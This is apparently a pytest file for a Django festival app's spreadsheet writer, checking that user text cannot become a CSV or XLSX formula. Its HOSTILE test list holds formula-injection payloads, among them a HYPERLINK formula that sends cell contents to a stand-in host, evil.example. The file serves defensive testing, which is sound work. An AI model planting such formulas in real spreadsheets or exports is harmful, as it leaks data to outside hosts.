"""The guarded spreadsheet writer: no text a user typed ever reaches a sheet as a formula."""

import csv
import io
import re
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path

import pytest
from django.utils import timezone
from django.utils.translation import gettext_lazy
from openpyxl import load_workbook

import festival
from festival.spreadsheets import (
    csv_cell,
    csv_lines,
    csv_text,
    guard_text,
    is_formula_like,
    plain_number,
    unguard_text,
    xlsx_bytes,
)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Voir")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    " =1+1",
    "\u00a0\n@SUM(A1)",
]
HARMLESS = ["Les mains de l'usine", "Lycée = avenir", "", "42", "'apostrophe", "#N/A"]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_gets_an_apostrophe(text):
    assert is_formula_like(text)
    assert guard_text(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_is_left_alone(text):
    assert not is_formula_like(text)
    assert guard_text(text) == text


@pytest.mark.parametrize(
    ("text", "written"),
    [("'=1", "''=1"), ("''-2", "'''-2"), ("'abc", "'abc"), ("' x", "' x")],
)
def test_text_that_looks_guarded_is_guarded_again(text, written):
    assert guard_text(text) == written


@pytest.mark.parametrize("text", [*HOSTILE, *HARMLESS, "'=1", "''=1", "'", "''"])
def test_unguard_gives_back_the_text_exactly(text):
    assert unguard_text(guard_text(text)) == text


@pytest.mark.parametrize(
    ("value", "text"),
    [
        (None, ""),
        (12, "12"),
        (-2, "-2"),
        (-2.5, "-2.5"),
        (8.0, "8.0"),
        (Decimal("7.50"), "7.5"),
        (Decimal("-10.00"), "-10"),
        (Decimal("1E+1"), "10"),
        (Decimal("0.125"), "0.125"),
        (date(2025, 3, 2), "2025-03-02"),
        (gettext_lazy("Catégorie"), "Catégorie"),
        ("-2", "'-2"),
        ("=1+1", "'=1+1"),
    ],
)
def test_csv_cells_keep_numbers_and_dates_and_guard_text(value, text):
    assert csv_cell(value) == text


def test_csv_aware_datetimes_are_written_in_local_time(settings):
    settings.TIME_ZONE = "Europe/Paris"
    moment = datetime(2025, 3, 2, 9, 30, 15, 123, tzinfo=UTC)
    with timezone.override("Europe/Paris"):
        assert csv_cell(moment) == "2025-03-02 10:30:15"


def test_plain_number():
    assert [plain_number(Decimal(v)) for v in ("2.00", "1.25", "-0.50", "100")] == [
        "2",
        "1.25",
        "-0.5",
        "100",
    ]


@pytest.mark.parametrize("delimiter", [",", ";"])
def test_csv_dialects_read_back_guarded_text_and_plain_numbers(delimiter):
    rows = [[text, -2, Decimal("-1.50"), 3] for text in HOSTILE]
    content = csv_text(["titre", "a", "b", "c"], rows, delimiter=delimiter)
    read = list(csv.reader(io.StringIO(content, newline=""), delimiter=delimiter))
    assert read[0] == ["titre", "a", "b", "c"]
    assert read[1:] == [["'" + text, "-2", "-1.5", "3"] for text in HOSTILE]


def test_csv_lines_stream_the_rows_with_a_byte_order_mark():
    consumed = []

    def rows():
        for number in range(3):
            consumed.append(number)
            yield [number, f"film {number}"]

    lines = csv_lines(["n", "titre"], rows(), delimiter=";", bom=True)
    assert next(lines) == "\ufeffn;titre\r\n"
    assert consumed == []
    assert list(lines) == ["0;film 0\r\n", "1;film 1\r\n", "2;film 2\r\n"]


def test_csv_text_line_terminator():
    assert csv_text(["a"], [["=1"]], lineterminator="\n") == "a\n'=1\n"


def read_xlsx(content: bytes):
    return load_workbook(io.BytesIO(content)).active


def test_xlsx_text_is_never_a_formula():
    content = xlsx_bytes("Films", ["titre"], [[text] for text in HOSTILE])
    sheet = read_xlsx(content)
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    # XML reads a carriage return as a line feed: the text stays text all the same.
    assert [cell.value for cell in cells] == [text.replace("\r", "\n") for text in HOSTILE]
    assert {cell.data_type for row in sheet.iter_rows() for cell in row} == {"s"}
    assert all(cell.quotePrefix for cell in cells)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")


def test_xlsx_keeps_numbers_and_dates_typed(settings):
    moment = datetime(2025, 3, 2, 9, 30, tzinfo=UTC)
    row = [-2, Decimal("-2.5"), 14.0, date(2025, 3, 2), moment, None, "#N/A", "Lycée"]
    with timezone.override("Europe/Paris"):
        sheet = read_xlsx(xlsx_bytes("Notes", ["h"] * len(row), [row]))
    cells = list(sheet.iter_rows(min_row=2))[0]
    assert [cell.value for cell in cells] == [
        -2,
        -2.5,
        14,
        datetime(2025, 3, 2),
        datetime(2025, 3, 2, 10, 30),
        None,
        "#N/A",
        "Lycée",
    ]
    assert [cell.data_type for cell in cells] == ["n", "n", "n", "d", "d", "n", "s", "s"]
    assert sheet.freeze_panes == "A2"
    assert sheet.title == "Notes"


def test_xlsx_drops_characters_a_sheet_cannot_hold():
    sheet = read_xlsx(xlsx_bytes("Films", ["titre"], [["Le\x01 film\x1f"]]))
    assert sheet["A2"].value == "Le film"


SPREADSHEET_WRITERS = re.compile(r"csv\.writer|csv\.DictWriter|^\s*(from|import) openpyxl", re.M)


def test_no_other_module_writes_spreadsheets():
    """Every CSV and XLSX file goes through this writer; reading CSV (rank_scores) is fine."""
    root = Path(festival.__file__).parent.parent
    writers = sorted(
        str(path.relative_to(root))
        for app in ("festival", "media_pipeline", "judging", "config")
        for path in (root / app).rglob("*.py")
        if SPREADSHEET_WRITERS.search(path.read_text(encoding="utf-8"))
    )
    assert writers == ["festival/spreadsheets.py"]
